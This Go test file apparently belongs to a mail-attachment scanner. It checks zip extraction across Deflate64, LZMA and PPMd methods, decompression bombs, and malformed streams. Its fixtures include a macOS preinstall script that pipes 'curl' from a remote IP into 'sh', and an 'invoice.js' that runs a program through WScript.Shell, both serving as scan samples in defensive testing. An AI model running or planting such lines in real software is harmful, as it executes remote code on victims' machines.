package unpack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
)

// installerFiles are methodFiles with the install script a macOS package
// (cpio payload, xar) runs.
func installerFiles() map[string][]byte {
	files := methodFiles()
	files["Scripts/preinstall"] = []byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n")
	return files
}

// methodFiles are contents that use what each method has: text, noise,
// runs longer than DEFLATE's 258 bytes, repeats further back than its 32
// KiB, and an empty file.
func methodFiles() map[string][]byte {
	rng := rand.New(rand.NewPCG(3, 4))
	noise := make([]byte, 50000)
	for i := range noise {
		noise[i] = byte(rng.IntN(256))
	}
	var words []byte
	for i := 0; i < 30000; i++ {
		words = fmt.Appendf(words, "%d %s ", rng.IntN(1000), []string{"invoice", "total", "report", "Q3"}[rng.IntN(4)])
	}
	return map[string][]byte{
		"report.txt": bytes.Repeat([]byte("Quarterly report: revenue figures and notes for the board.\r\n"), 3000),
		"words.txt":  words,
		"noise.bin":  noise,
		"zeros.bin":  make([]byte, 300000),
		"far.bin":    append(append(append([]byte{}, noise...), make([]byte, 12000)...), noise...),
		"empty.txt":  nil,
		"invoice.js": []byte(`var sh = new ActiveXObject("WScript.Shell"); sh.Run("calc.exe");` + "\r\n"),
	}
}

// What 7-Zip writes with each method it offers for zip and Kensa reads,
// Kensa reads byte for byte: Deflate64 at several levels (different
// parsers and block splits), LZMA with and without an end marker.
func TestZipMethodsAs7zWrites(t *testing.T) {
	sevenZip := toolNeeded(t, "7z")
	files := methodFiles()
	src := t.TempDir()
	names := writeFiles(t, src, files)
	for _, m := range []string{"Deflate64", "Deflate64 -mx=1", "Deflate64 -mx=9 -mpass=15", "LZMA", "LZMA:eos=off", "LZMA -mx=9", "LZMA:lc=0:lp=2:pb=0"} {
		t.Run(m, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "x.zip")
			args := append([]string{"a", "-tzip", "-bd", "-bso0"}, strings.Fields("-mm="+m)...)
			cmd := exec.Command(sevenZip, append(append(args, file), names...)...)
			cmd.Dir = src
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("7z a: %v\n%s", err, out)
			}
			b, _ := os.ReadFile(file)
			msg := mail("", "", "x.zip", b)
			expand(t, msg, Options{})
			noProblems(t, msg)
			for name, data := range files {
				if len(data) == 0 {
					continue // 7-Zip stores an empty file
				}
				if got := mustPart(t, msg, "2/x.zip/"+name).Content; !bytes.Equal(got, data) {
					t.Errorf("%s: read %d bytes, not the %d 7-Zip packed", name, len(got), len(data))
				}
			}
		})
	}
}

// The same members in a local header only (no central directory lists
// them), as 7-Zip's and streaming readers find them; and in the central
// directory of a zip Kensa's writer made.
func TestZipMethodsLocalOnly(t *testing.T) {
	js := methodFiles()["invoice.js"]
	for _, e := range []formats.ZipEntry{
		{Name: "a.js", Data: js, Method: formats.ZipDeflate64},
		{Name: "a.js", Data: js, Method: formats.ZipLZMA},
		{Name: "a.js", Data: js, Method: formats.ZipLZMA, Flags: 2},
	} {
		for _, hidden := range []bool{false, true} {
			e.Hidden = hidden
			msg := mail("", "", "x.zip", formats.Zip(formats.ZipEntry{Name: "readme.txt", Data: []byte(marker)}, e))
			expand(t, msg, Options{})
			if got := mustPart(t, msg, "2/x.zip/a.js").Content; !bytes.Equal(got, js) {
				t.Errorf("method %d hidden %v: read %q", e.Method, hidden, got)
			}
			if p := problem(msg, ReasonCorrupt); p != nil {
				t.Errorf("method %d hidden %v: %s", e.Method, hidden, p.Detail)
			}
		}
	}
}

// A method Kensa does not read (PPMd variant I, which 7-Zip, WinRAR and
// libarchive read; no Go module reads it) is unsupported-container naming
// the method, in the central directory and in a local header alone: never
// a member skipped in silence. An unknown method number is corrupt.
func TestZipMethodUnread(t *testing.T) {
	sevenZip, err := exec.LookPath("7z")
	if err != nil {
		t.Fatalf("7z not found (scripts/deps.sh test installs p7zip-full): %v", err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "invoice.js"), bytes.Repeat(methodFiles()["invoice.js"], 20), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(sevenZip, "a", "-tzip", "-bd", "-bso0", "-mm=PPMd", "x.zip", "invoice.js")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("7z a: %v\n%s", err, out)
	}
	ppmd, _ := os.ReadFile(filepath.Join(dir, "x.zip"))
	msg := mail("", "", "x.zip", ppmd)
	expand(t, msg, Options{})
	mustProblem(t, msg, ReasonUnsupported, "2")
	if p := problem(msg, ReasonUnsupported); !strings.Contains(p.Detail, "method 98 (PPMd) not supported") {
		t.Errorf("detail %q does not name the method", p.Detail)
	}
	// The PPMd member's local header and data, then an honest zip.
	local := ppmd[:bytes.Index(ppmd, []byte(sigCentral))]
	msg = mail("", "", "x.zip", append(slices.Clone(local), zipOf(t, entry{"readme.txt", []byte(marker)})...))
	expand(t, msg, Options{})
	mustPart(t, msg, "2/x.zip/readme.txt")
	mustProblem(t, msg, ReasonUnsupported, "2")
	if p := problem(msg, ReasonUnsupported); !strings.Contains(p.Detail, `local member "invoice.js": compression method 98 (PPMd)`) {
		t.Errorf("detail %q", p.Detail)
	}
	// An unknown method number in the central directory and the local header.
	unknown := slices.Clone(ppmd)
	binary.LittleEndian.PutUint16(unknown[bytes.Index(unknown, []byte(sigLocal))+8:], 97)
	binary.LittleEndian.PutUint16(unknown[bytes.Index(unknown, []byte(sigCentral))+10:], 97)
	msg = mail("", "", "x.zip", unknown)
	expand(t, msg, Options{})
	mustProblem(t, msg, ReasonCorrupt, "2")
	if p := problem(msg, ReasonUnsupported); p != nil {
		t.Errorf("an unknown method is unsupported: %s", p.Detail)
	}
}

// Bombs of each method are cut by the walker's limits, as deflated ones.
func TestZipMethodBombs(t *testing.T) {
	zeros := make([]byte, 6<<20)
	for _, method := range []uint16{formats.ZipDeflate64, formats.ZipLZMA} {
		b := formats.Zip(formats.ZipEntry{Name: "a.txt", Data: zeros, Method: method})
		msg := mail("", "", "x.zip", b)
		expand(t, msg, Options{})
		mustProblem(t, msg, ReasonRatio, "2")
		if p := mustPart(t, msg, "2/x.zip/a.txt"); len(p.Content) > 2<<20 {
			t.Errorf("method %d: %d bytes read past the ratio limit", method, len(p.Content))
		}
	}
}

// Hostile Deflate64 streams end with an error, never a panic or a loop,
// and never with more output than the stream holds.
func TestDeflate64Hostile(t *testing.T) {
	good := formats.Deflate64([]byte("hello hello hello hello"))
	for _, tt := range []struct {
		name string
		in   []byte
		want error
	}{
		{"empty", nil, io.ErrUnexpectedEOF},
		{"block type 3", []byte{0x07}, errD64Data},
		{"stored length not complemented", []byte{0x01, 5, 0, 5, 0, 'a'}, errD64Data},
		{"stored truncated", []byte{0x01, 5, 0, 0xFA, 0xFF, 'a'}, io.ErrUnexpectedEOF},
		{"fixed truncated", good[:len(good)/2], io.ErrUnexpectedEOF},
		// Fixed block, first symbol a match: distance before the output.
		// (final, fixed, symbol 257 = code 0000001 reversed, distance code 0).
		{"distance before start", bitsOf([2]uint64{1, 1}, [2]uint64{1, 2}, [2]uint64{0x40, 7}, [2]uint64{0, 5}, [2]uint64{0, 8}), errD64Data},
		// Dynamic block whose code length code is over-subscribed (all 7s).
		{"over-subscribed", []byte{0x05, 0xE0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}, errD64Data},
		// Dynamic block: HLIT of 30 (287 symbols), past the 286 allowed.
		{"too many lengths", []byte{0xF5, 0x00, 0x00}, errD64Data},
		// Dynamic block whose first code length is a repeat (16).
		{"repeat first", d64RepeatFirst(), errD64Data},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, err := io.ReadAll(io.LimitReader(newDeflate64(bytes.NewReader(tt.in)), 1<<20))
			if !errors.Is(err, tt.want) {
				t.Fatalf("got %d bytes and %v, want %v", len(got), err, tt.want)
			}
		})
	}
	if got, err := io.ReadAll(newDeflate64(bytes.NewReader(good))); err != nil || string(got) != "hello hello hello hello" {
		t.Fatalf("good stream: %q %v", got, err)
	}
}

// bitsOf packs (value, bit count) pairs the first bit lowest, as DEFLATE
// streams are; a Huffman code is given already reversed.
func bitsOf(fields ...[2]uint64) []byte {
	var b []byte
	var acc, n uint64
	for _, f := range fields {
		acc |= f[0] << n
		n += f[1]
		for n >= 8 {
			b = append(b, byte(acc))
			acc >>= 8
			n -= 8
		}
	}
	if n > 0 {
		b = append(b, byte(acc))
	}
	return b
}

// d64RepeatFirst is a dynamic block whose code length code gives only
// symbols 16 (repeat the previous length) and 17 a code, and uses 16 first.
func d64RepeatFirst() []byte {
	// final, dynamic, HLIT 0, HDIST 0, HCLEN 0 (lengths of 16, 17, 18, 0),
	// then the code of 16 (0).
	return bitsOf([2]uint64{1, 1}, [2]uint64{2, 2}, [2]uint64{0, 5}, [2]uint64{0, 5}, [2]uint64{0, 4},
		[2]uint64{1, 3}, [2]uint64{1, 3}, [2]uint64{0, 3}, [2]uint64{0, 3}, [2]uint64{0, 1}, [2]uint64{0, 8})
}

// A Deflate64 stream decodes to what it encodes, however it is read.
func FuzzDeflate64(f *testing.F) {
	for _, data := range methodFiles() {
		f.Add(formats.Deflate64(data[:min(len(data), 4000)]))
	}
	f.Add([]byte{0x01, 5, 0, 0xFA, 0xFF, 'a', 'b', 'c', 'd', 'e'})
	f.Fuzz(func(t *testing.T, b []byte) {
		// Every symbol is at least one bit and outputs at most 65538
		// bytes: the output is bounded by the input.
		got, _ := io.ReadAll(io.LimitReader(newDeflate64(bytes.NewReader(b)), 64<<20))
		if len(got) > (len(b)*8+8)*65538 {
			t.Fatalf("%d bytes from %d", len(got), len(b))
		}
	})
}
